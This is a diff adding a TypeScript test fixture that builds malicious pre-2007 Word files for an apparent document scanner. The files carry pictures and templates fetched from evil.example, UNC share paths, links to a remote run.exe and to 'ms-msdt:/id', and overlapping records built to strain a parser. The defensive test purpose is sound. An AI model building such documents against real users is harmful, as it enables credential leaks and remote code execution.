@@ -1,0 +1,192 @@
+import { compoundFile } from '../../../support/compound-file';
+import { docxFile, relationshipsOf } from '../../../support/docx';
+import { hyperlink } from '../../../support/ole';
+import {
+  drawing,
+  linkOfShape,
+  namedPicture,
+  packedShape,
+  placedAt,
+  shape,
+  shapeProperties,
+  wideName,
+} from '../../../support/word-pictures';
+import { oldWordFile, wordFile, wordStreams } from '../../../support/word97';
+import { type Hostile, hostileFile } from './hostile';
+
+const hostile = hostileFile('doc');
+
+const address = 'http://evil.example/x.png';
+const share = '\\\\evil.example\\share\\x.png';
+const withData = (Data: Buffer, drawings?: Buffer) => wordFile({ text: 'CV', drawings }, { Data });
+
+/** Where the text of a small document of Word 6 begins. */
+const oldText = 768;
+
+const named: Hostile[] = [
+  ...[94, 98, 99, 102].map((kind) =>
+    hostile(
+      `with a picture of kind ${kind} from elsewhere`,
+      withData(namedPicture(address, kind)),
+      'from another computer',
+    ),
+  ),
+  ...[share, '//evil.example/x', 'file://evil.example/x', 'smb://evil.example/x', 'server/x.png', 'evil.example'].map(
+    (name) => hostile(`with a picture whose file is ${name}`, withData(namedPicture(name)), 'from another computer'),
+  ),
+  hostile(
+    'with such a picture behind others',
+    withData(Buffer.concat([Buffer.alloc(77, 1), namedPicture(address)])),
+    'from another computer',
+  ),
+  hostile(
+    'with such a picture whose head has another size',
+    withData(namedPicture(address, 94, 99), placedAt(0)),
+    'from another computer',
+  ),
+  hostile(
+    'with such a picture that is placed within the data',
+    withData(Buffer.concat([placedAt(6), namedPicture(address, 94, 200)])),
+    'from another computer',
+  ),
+  hostile('with such a picture among its text', amongText(), 'from another computer'),
+  hostile(
+    'of Word 6 with such a picture',
+    oldWordFile(`CV${namedPicture(address).toString('latin1')}`),
+    'from another computer',
+  ),
+  hostile('of Word 6 with such a picture whose head has another size', oldWithOddHead(), 'from another computer'),
+];
+
+/** Without a stream of data, programs look for pictures in that of the text. */
+function amongText(): Buffer {
+  const { WordDocument = Buffer.alloc(0), ...rest } = wordStreams({ text: 'CV', drawings: placedAt(900) });
+  return compoundFile({ WordDocument: Buffer.concat([WordDocument, namedPicture(address, 94, 80)]), ...rest });
+}
+
+function oldWithOddHead(): Buffer {
+  const property = Buffer.from([0x44, 4, 0, 0, 0, 0]);
+  property.writeUInt32LE(oldText + property.length, 2);
+  return oldWordFile(Buffer.concat([property, namedPicture(address, 94, 120)]).toString('latin1'));
+}
+
+const { picture, name, purpose, fillName, fillPurpose } = shapeProperties;
+
+/** A shape whose picture is named, and what the name is said to be for. */
+const linked = (source: string, flags: number) =>
+  shape([
+    [name, wideName(source)],
+    [purpose, flags],
+  ]);
+
+const fetched: Hostile[] = [
+  ...[2, 4, 8, 9, 10].flatMap((flags) => [
+    hostile(
+      `with a drawing whose picture is elsewhere, flags ${flags}`,
+      wordFile({ text: 'CV', drawings: drawing(linked(address, flags)) }),
+      'from another computer',
+    ),
+    hostile(
+      `with a drawing in a line whose picture is on a server, flags ${flags}`,
+      withData(linked(share, flags)),
+      'from another computer',
+    ),
+  ]),
+  hostile(
+    'with a drawing whose picture is carried, and fetched once more',
+    withData(
+      shape([
+        [picture, 1],
+        [name, wideName(share)],
+        [purpose, 9],
+      ]),
+    ),
+    'from another computer',
+  ),
+  hostile(
+    'with a drawing that says twice what its name is for',
+    withData(
+      shape([
+        [name, wideName(address)],
+        [purpose, 8],
+        [purpose, 0],
+      ]),
+    ),
+    'from another computer',
+  ),
+  hostile(
+    'with a drawing that a picture from elsewhere fills',
+    withData(
+      shape([
+        [fillName, wideName(address)],
+        [fillPurpose, 10],
+      ]),
+    ),
+    'from another computer',
+  ),
+  ...[{ version: 0 }, { size: 6 }, { size: 0x7fffffff }].map((head, index) =>
+    hostile(
+      `with such a drawing whose record is none, ${index}`,
+      withData(
+        shape(
+          [
+            [name, wideName(address)],
+            [purpose, 8],
+          ],
+          head,
+        ),
+      ),
+      'from another computer',
+    ),
+  ),
+  hostile('with drawings that share their bytes', withData(overlapping()), 'damaged'),
+  hostile(
+    'with a shape that is a package with a template from elsewhere',
+    withData(shape([[packedShape, templated()]])),
+    'fetched',
+  ),
+];
+
+/** Records of properties, each of which has most of the others within it. */
+function overlapping(): Buffer {
+  const head = shape([]);
+  head.writeUInt16LE(0xfff3, 0);
+  head.writeUInt32LE(24_570, 4);
+  return Buffer.concat([...Array(3_000).fill(head), Buffer.alloc(24_570)]);
+}
+
+function templated(): Buffer {
+  return docxFile({
+    'word/_rels/document.xml.rels': relationshipsOf([['attachedTemplate', 'http://evil.example/x.dotm', 'External']]),
+  });
+}
+
+const programs = ['\\\\evil.example\\share\\run.exe', 'ms-msdt:/id', 'file://evil.example/share/x'];
+
+const links: Hostile[] = [
+  ...programs.flatMap((target) => [
+    hostile(
+      `with a drawing that links to ${target}`,
+      wordFile({ text: 'CV', drawings: drawing(shape([[linkOfShape, hyperlink(target)]])) }),
+      'leads to a program',
+    ),
+    hostile(
+      `with a drawing in a line that links to ${target}`,
+      withData(shape([[linkOfShape, hyperlink(target, { of: '00'.repeat(16) })]])),
+      'leads to a program',
+    ),
+    hostile(`with a field whose own link is to ${target}`, withData(hyperlink(target)), 'leads to a program'),
+    hostile(`with a text for a link to ${target}`, withData(hyperlink(target, { flags: 0x103 })), 'leads to a program'),
+  ]),
+  hostile('with a field whose own link is to run.exe', withData(hyperlink('run.exe')), 'a link to a program'),
+  hostile(
+    'with a link of an unknown kind',
+    withData(Buffer.concat([hyperlink('https://example.com').subarray(0, 24), Buffer.alloc(20, 7)])),
+    'unknown kind',
+  ),
+  hostile('with a link whose title is not there', withData(hyperlink('https://x.com', { flags: 7 })), 'damaged'),
+  hostile('with a link that does not end', withData(hyperlink('https://x.com').subarray(0, 50)), 'damaged'),
+];
+
+/** Pictures that are fetched, and links, in drawings and beside fields of a Word document before 2007. */
+export const hostilePictures: Hostile[] = [...named, ...fetched, ...links];
